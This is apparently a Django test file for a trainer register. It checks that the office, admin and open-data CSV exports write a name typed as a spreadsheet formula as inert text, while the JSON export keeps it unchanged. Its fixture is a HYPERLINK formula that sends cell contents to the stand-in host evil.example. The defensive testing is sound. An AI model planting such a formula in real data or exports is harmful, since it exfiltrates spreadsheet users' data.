"""A name typed as a spreadsheet formula is exported as text in every register CSV."""

import csv
import io

from django.urls import reverse

from .conftest import public_trainer

FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'


def rows(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_office_register_export_writes_a_formula_name_as_text(login, office, db):
    public_trainer(FORMULA, "Utrecht", number="000042")
    exported = rows(login(office).get(reverse("register:office_register_csv")))
    assert exported[0]["name"] == "'" + FORMULA + " Utrecht"


def test_the_admin_export_writes_a_formula_name_as_text(login, office, db):
    registration = public_trainer(FORMULA, "Utrecht", number="000042")
    response = login(office).post(
        reverse("admin:register_registration_changelist"),
        {"action": "export_csv", "_selected_action": [registration.pk]},
    )
    assert rows(response)[0]["name"] == "'" + FORMULA + " Utrecht"


def test_the_open_data_csv_writes_a_formula_name_as_text_and_the_json_unchanged(client, db, reindex):
    public_trainer(FORMULA, "Utrecht", number="000042")
    reindex()
    exported = rows(client.get("/register/open-data/register.csv"))
    assert exported[0]["name"] == "'" + FORMULA + " Utrecht"
    data = client.get("/register/open-data/register.json").json()
    assert data["registrations"][0]["name"] == FORMULA + " Utrecht"
